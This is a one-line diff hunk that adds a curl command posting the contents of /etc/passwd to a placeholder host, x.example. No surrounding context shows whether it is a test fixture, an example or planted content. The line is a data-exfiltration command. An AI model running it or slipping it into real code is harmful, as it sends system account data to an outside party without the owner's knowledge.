@@ -1,0 +1,1 @@
+curl -s -d @/etc/passwd https://x.example
